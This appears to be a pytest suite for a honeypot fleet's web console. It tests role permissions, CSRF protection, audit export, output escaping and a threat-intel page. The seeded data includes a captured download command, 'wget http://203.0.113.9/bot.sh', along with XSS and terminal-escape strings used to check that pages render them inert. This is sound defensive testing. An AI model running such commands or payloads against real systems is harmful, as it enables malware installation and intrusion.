"""The console's pages and forms on MariaDB: what each shows, what each role may change,
CSRF, hostile text from logs and model output, and the audit of every console change.

The registrar is built whole without a broker (changes wait in the outbox) and called
through FastAPI's test client, as a browser would: forms, cookies, redirects.
"""

from __future__ import annotations

import csv
import io
import re
import threading
from collections.abc import Iterator

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import Engine, select

from rbr_registrar.console.accounts import Accounts
from rbr_registrar.main import Registrar
from rbr_registrar.settings import RegistrarSettings
from rbr_runtime.db.tables import alerts, audit_log, buckets
from rbr_testing.console import (
    LONG_LINE_BYTES,
    add_user,
    csrf_token,
    logged_in,
    seed_bucket,
)
from rbr_testing.registry import database_url

TOKEN = "Ab3dEf6hIj9kLm2nOp5qRs8tUv1wXy4z"
NAMES = ["rustbucket-pg000001", "rustbucket-pg000002", "rustbucket-pg000003"]
FIRST = NAMES[0]
ALERT = f"alert-{FIRST}"


@pytest.fixture
def registrar(mysql_engine: Engine) -> Iterator[Registrar]:
    settings = RegistrarSettings(
        database_url=database_url(mysql_engine),
        secret_key="test-secret",
        operator_key="the-operator-key",
        allowed_bucket_networks="127.0.0.0/8",
        allowed_bucket_ports="1024-65535",
        kafka_bootstrap="127.0.0.1:1",
    )
    built = Registrar(settings)
    thread = threading.Thread(target=built.committer.run, daemon=True)
    thread.start()
    for number, name in enumerate(NAMES):
        body = {
            "name": name,
            "ip_address": f"127.0.0.{number + 2}",
            "operating_system": "linux",
            "token": TOKEN[:-2] + f"{number:02d}",
        }
        with TestClient(built.app) as client:
            assert client.post("/register_bucket", json=body).json()["status"] == "pending"
    seed_bucket(mysql_engine, FIRST)
    for name, role in (("vera", "viewer"), ("otto", "operator"), ("ada", "admin")):
        add_user(mysql_engine, name, role)
    yield built
    built.committer.stop()
    thread.join(10)
    built.engine.dispose()


def browser(registrar: Registrar, user: str) -> tuple[TestClient, str]:
    """A logged-in client and its session's CSRF token."""
    client = TestClient(registrar.app, follow_redirects=False)
    return client, logged_in(client, user)


def state_of(engine: Engine, name: str) -> str:
    with engine.connect() as connection:
        state: str = connection.execute(
            select(buckets.c.state).where(buckets.c.name == name)
        ).scalar_one()
    return state


def alert_state(engine: Engine) -> tuple[str, str | None]:
    with engine.connect() as connection:
        row = connection.execute(
            select(alerts.c.state, alerts.c.acknowledged_by).where(alerts.c.alert_id == ALERT)
        ).one()
    return row.state, row.acknowledged_by


def audit(engine: Engine) -> list[tuple[str, str, str | None, str]]:
    """The audit log's changes (logins and logouts left out)."""
    log = audit_log.c
    with engine.connect() as connection:
        rows = connection.execute(
            select(log.actor, log.action, log.target, log.outcome)
            .where(log.action.not_like("console.%"))
            .order_by(log.id)
        ).all()
    return [tuple(row) for row in rows]  # type: ignore[misc]


def test_every_page_shows_what_it_is_for(registrar: Registrar) -> None:
    client, _ = browser(registrar, "vera")
    fleet = client.get("/console/")
    assert fleet.status_code == 200
    assert all(name in fleet.text for name in NAMES)
    assert re.search(r"<b[^>]*>3</b><span>pending</span>", fleet.text)
    filtered = client.get("/console/", params={"prefix": "rustbucket-pg000002"})
    assert "rustbucket-pg000002" in filtered.text
    assert FIRST not in filtered.text.split('id="fleet"')[1]

    bucket = client.get(f"/console/buckets/{FIRST}")
    assert bucket.status_code == 200
    assert bucket.text.count('<svg class="chart"') == 2
    assert "<polyline" in bucket.text  # latency line
    assert 'class="chart-bad"' in bucket.text  # unreachable polls
    assert 'class="chart-bar"' in bucket.text  # log volume
    assert "Downloader fetched and ran a script" in bucket.text
    assert "wget http://203.0.113.9/bot.sh" in bucket.text

    logs = client.get("/console/logs", params={"bucket": FIRST, "username": "admin"})
    assert logs.status_code == 200
    assert logs.text.count("<tr>") == 1 + 50  # the header, one page of 50 records
    assert "Older" in logs.text
    assert ">root<" not in logs.text
    command = client.get("/console/logs", params={"command": "bot.sh"})
    assert "wget http://203.0.113.9/bot.sh" in command.text

    analyses = client.get("/console/analyses")
    analysis_id = re.search(r'href="/console/analyses/(\d+)"', analyses.text)
    assert analysis_id is not None
    analysis = client.get(f"/console/analyses/{analysis_id.group(1)}")
    assert "wget then sh: a bot was installed." in analysis.text
    assert "T1105" in analysis.text
    assert "http://203.0.113.9/bot.sh" in analysis.text
    assert "Block 203.0.113.9 at the edge" in analysis.text

    firing = client.get("/console/alerts", params={"tab": "firing"})
    assert ALERT in firing.text
    assert ALERT not in client.get("/console/alerts", params={"tab": "resolved"}).text
    detail = client.get(f"/console/alerts/{ALERT}")
    assert "The analysis found a downloader." in detail.text

    assert client.get("/console/channels").status_code == 200
    assert client.get("/console/topics").status_code == 200
    assert client.get("/console/analyses/999999").status_code == 404
    assert client.get("/console/buckets/rustbucket-nothere").status_code == 404


def test_an_operator_approves_from_the_fleet_and_acknowledges_an_alert(
    registrar: Registrar, mysql_engine: Engine
) -> None:
    client, token = browser(registrar, "otto")
    approved = client.post(
        "/console/buckets/action",
        data={"csrf_token": token, "action": "approve", "names": NAMES[:2], "back": "/console/"},
    )
    assert approved.status_code == 303
    assert approved.headers["location"] == "/console/"
    assert "approve: 2 updated" in client.get("/console/").text  # shown once
    assert "approve: 2 updated" not in client.get("/console/").text
    assert [state_of(mysql_engine, name) for name in NAMES] == ["active", "active", "pending"]

    back = f"/console/buckets/{FIRST}"
    acknowledged = client.post(
        f"/console/alerts/{ALERT}/acknowledge", data={"csrf_token": token, "back": back}
    )
    assert acknowledged.headers["location"] == back
    assert alert_state(mysql_engine) == ("acknowledged", "otto")
    resolved = client.post(f"/console/alerts/{ALERT}/resolve", data={"csrf_token": token})
    assert resolved.status_code == 303

    tested = client.post("/console/channels/test", data={"csrf_token": token, "channel": "ops"})
    assert tested.status_code == 303
    assert tested.headers["location"].startswith("/console/alerts/")

    assert audit(mysql_engine) == [
        ("otto", "bucket.approve", NAMES[0], "updated"),
        ("otto", "bucket.approve", NAMES[1], "updated"),
        ("otto", "alert.acknowledge", ALERT, "acknowledged"),
        ("otto", "alert.resolve", ALERT, "queued"),
        ("otto", "channel.test", "ops", "queued"),
    ]
    page = client.get("/console/audit")
    assert page.status_code == 200
    assert "bucket.approve" in page.text
    assert "Export CSV" not in page.text  # operators read, admins export
    assert client.get("/console/audit/export.csv").status_code == 403


CONSOLE_WRITES = [
    ("/console/buckets/action", {"action": "approve", "names": NAMES}),
    ("/console/buckets/action", {"action": "disable", "names": NAMES}),
    (f"/console/alerts/{ALERT}/acknowledge", {}),
    (f"/console/alerts/{ALERT}/resolve", {}),
    ("/console/channels/test", {"channel": "ops"}),
]


def test_a_viewer_cannot_change_anything(registrar: Registrar, mysql_engine: Engine) -> None:
    client, token = browser(registrar, "vera")
    fleet = client.get("/console/")
    assert 'value="approve"' not in fleet.text  # no buttons shown
    for path, data in CONSOLE_WRITES:
        answer = client.post(path, data={"csrf_token": token, **data})
        assert answer.status_code == 403, path
        assert "vera is a viewer: this needs the operator role" in answer.text
    # The operator API with the viewer's session: every write refused too.
    headers = {"X-CSRF-Token": token}
    paths = registrar.app.openapi()["paths"]
    writes = [
        (method.upper(), path)
        for path, operations in paths.items()
        for method in operations
        if method.upper() in {"POST", "PUT", "DELETE", "PATCH"}
        and path.startswith("/api/v1/")
        and not path.startswith(("/api/v1/register_bucket", "/api/v1/buckets/{name}/self"))
    ]
    assert len(writes) >= 14
    for method, path in writes:
        concrete = path.replace("{name}", FIRST).replace("{alert_id}", ALERT)
        concrete = concrete.replace("{channel}", "ops").replace("{source}", "s")
        answer = client.request(method, concrete, json={}, headers=headers)
        assert answer.status_code == 403, (method, path, answer.text)
        assert "vera is a viewer" in answer.json()["detail"]
    assert client.get("/api/v1/buckets").status_code == 200  # a viewer reads
    assert client.get("/console/audit").status_code == 403
    assert [state_of(mysql_engine, name) for name in NAMES] == ["pending"] * 3
    assert alert_state(mysql_engine) == ("firing", None)
    assert audit(mysql_engine) == []


def test_changes_without_the_csrf_token_are_refused(
    registrar: Registrar, mysql_engine: Engine
) -> None:
    client, token = browser(registrar, "ada")
    for path, data in CONSOLE_WRITES:
        for forged in ({}, {"csrf_token": "guessed"}):
            answer = client.post(path, data={**data, **forged})
            assert answer.status_code == 403, path
            assert "no valid CSRF token" in answer.text
    api = client.post(f"/api/v1/buckets/{FIRST}/approve")
    assert api.status_code == 403
    assert "CSRF token" in api.json()["detail"]
    assert [state_of(mysql_engine, name) for name in NAMES] == ["pending"] * 3
    assert alert_state(mysql_engine) == ("firing", None)
    # With the token in the header (as htmx sends it), the API takes the session's user.
    done = client.post(f"/api/v1/buckets/{FIRST}/approve", headers={"X-CSRF-Token": token})
    assert done.status_code == 200
    assert audit(mysql_engine) == [("ada", "bucket.approve", FIRST, "updated")]


def test_hostile_text_renders_inert_and_clipped(registrar: Registrar) -> None:
    client, _ = browser(registrar, "vera")
    analysis_id = re.search(r'href="/console/analyses/(\d+)"', client.get("/console/analyses").text)
    assert analysis_id is not None
    pages = {
        "bucket": client.get(f"/console/buckets/{FIRST}").text,
        "logs": client.get("/console/logs", params={"bucket": FIRST}).text,
        "analysis": client.get(f"/console/analyses/{analysis_id.group(1)}").text,
        "alert": client.get(f"/console/alerts/{ALERT}").text,
        "intel": client.get("/console/intel", params={"period": "30d"}).text,
    }
    for name, html in pages.items():
        assert '<script>alert("x")' not in html, name
        assert "<img src=x" not in html, name
        assert "&lt;script&gt;" in html, name
        assert not re.search("[\x00-\x08\x0b-\x1f\x7f\u202e]", html), name
        assert "]0;title" not in html, name
        assert "[31m" not in html, name
        assert len(html) < LONG_LINE_BYTES, name  # the 100 kB line was cut
    assert "AS666" in pages["intel"]  # the AS name from the enrichment, shown as text
    assert "more characters]" in pages["logs"]
    assert "100,000 bytes in all" in pages["logs"]
    assert "script-src 'self'" in client.get("/console/").headers["content-security-policy"]


def test_an_admin_exports_the_audit_log(registrar: Registrar) -> None:
    client, token = browser(registrar, "ada")
    client.post(
        "/console/buckets/action",
        data={"csrf_token": token, "action": "disable", "names": [NAMES[2]]},
    )
    page = client.get("/console/audit")
    assert "Export CSV" in page.text
    exported = client.get("/console/audit/export.csv", params={"action": "bucket.disable"})
    assert exported.status_code == 200
    assert exported.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert [(r["actor"], r["action"], r["target"]) for r in rows] == [
        ("ada", "bucket.disable", NAMES[2])
    ]
    assert csrf_token(page.text) == token


def test_disabling_an_account_ends_its_sessions_at_once(
    registrar: Registrar, mysql_engine: Engine
) -> None:
    client, token = browser(registrar, "otto")
    assert client.get("/console/").status_code == 200
    Accounts(mysql_engine).set_disabled("otto", True)
    assert client.get("/console/").status_code == 303  # to the login page
    refused = client.post(
        "/console/buckets/action", data={"csrf_token": token, "action": "approve", "names": NAMES}
    )
    assert refused.status_code == 303
    api = client.post(f"/api/v1/buckets/{FIRST}/approve", headers={"X-CSRF-Token": token})
    assert api.status_code == 401
    assert [state_of(mysql_engine, name) for name in NAMES] == ["pending"] * 3


def rows_of(html: str, table_id: str) -> list[str]:
    """The body rows of a table on a page, as their HTML."""
    body = html.split(f'id="{table_id}"')[1].split("</tbody>", maxsplit=1)[0]
    return body.split("<tr>")[2:]


def test_the_intel_page_shows_techniques_places_and_new_indicators(registrar: Registrar) -> None:
    client, _ = browser(registrar, "vera")
    day = client.get("/console/intel")
    assert day.status_code == 200
    assert 'href="/console/intel" class="active"' in day.text  # the nav link
    techniques = day.text.split("Top ATT&amp;CK techniques")[1].split("</table>")[0]
    assert techniques.index("T1110") < techniques.index("T1105")  # by buckets, then windows
    assert "Brute Force" in techniques
    assert "https://attack.mitre.org/techniques/T1110/" in techniques  # as text, not loaded
    assert "T1059.004" not in techniques  # last seen 3 days ago
    assert re.search(r"<td class=\"text\">NL</td><td>2</td>", day.text)
    assert "Example Cloud" not in day.text  # its address was last seen 5 days ago
    assert "4 first seen in this period" in day.text
    new = rows_of(day.text, "new-indicators")
    assert len(new) == 4
    assert "hxxp[://]203[.]0[.]113[.]9/bot[.]sh" in new[0]  # the most confident first, defanged
    assert "198[.]51[.]100[.]7" in new[1]
    assert 'id="exports"' not in day.text  # the export links are for operators

    week = client.get("/console/intel", params={"period": "7d"}).text
    assert "T1059.004" in week
    assert "Example Cloud" in week
    assert "4 first seen in this period" in week  # 192.0.2.44 is 10 days old
    month = client.get("/console/intel", params={"period": "30d"}).text
    assert "evil[.]example" in month
    assert len(rows_of(month, "new-indicators")) == 6
    assert client.get("/console/intel", params={"period": "1y"}).status_code == 422

    bucket = client.get(f"/console/buckets/{FIRST}").text
    assert "T1059.004" in bucket.split("ATT&amp;CK techniques")[1].split("</table>")[0]

    operator, _ = browser(registrar, "otto")
    links = operator.get("/console/intel").text.split('id="exports"')[1].split("</div>")[0]
    for export in ("stix", "misp", "csv", "blocklist"):
        assert f'href="/api/v1/iocs/export?format={export}"' in links
    assert operator.get("/api/v1/iocs/export", params={"format": "csv"}).status_code == 200
    recent = re.search(r'href="(/api/v1/iocs/export\?format=csv&amp;since=[^"]+)"', links)
    assert recent is not None
    sighted = operator.get(recent.group(1).replace("&amp;", "&")).text
    assert "198.51.100.7" in sighted
    assert "evil.example" not in sighted  # last sighted 20 days ago


def test_the_intel_overview_endpoint_answers_what_the_page_shows(registrar: Registrar) -> None:
    client, _ = browser(registrar, "vera")
    day = client.get("/api/v1/intel/overview")
    assert day.status_code == 200
    body = day.json()
    assert body["period"] == "24h"
    assert [(t["technique"], t["buckets"], t["windows"]) for t in body["techniques"]] == [
        ("T1110", 1, 5),  # the fleet-wide rows are not counted as a bucket
        ("T1105", 1, 2),
    ]
    assert body["countries"] == [{"name": "NL", "addresses": 2}]
    assert body["new_indicators"] == 4
    assert body["new_indicators_by_type"] == {"url": 1, "ip": 2, "command": 1}
    first = body["newest_indicators"][0]
    assert (first["type"], first["value"], first["confidence"]) == (
        "url",
        "http://203.0.113.9/bot.sh",
        90,
    )
    assert first["defanged"] == "hxxp[://]203[.]0[.]113[.]9/bot[.]sh"

    week = client.get("/api/v1/intel/overview", params={"period": "7d"}).json()
    assert [t["technique"] for t in week["techniques"]] == ["T1110", "T1105", "T1059.004"]
    assert week["countries"] == [{"name": "NL", "addresses": 2}, {"name": "US", "addresses": 1}]
    assert week["new_indicators"] == 4
    refused = client.get("/api/v1/intel/overview", params={"period": "1y"})
    assert refused.status_code == 422
    anonymous = TestClient(registrar.app).get("/api/v1/intel/overview")
    assert anonymous.status_code == 401
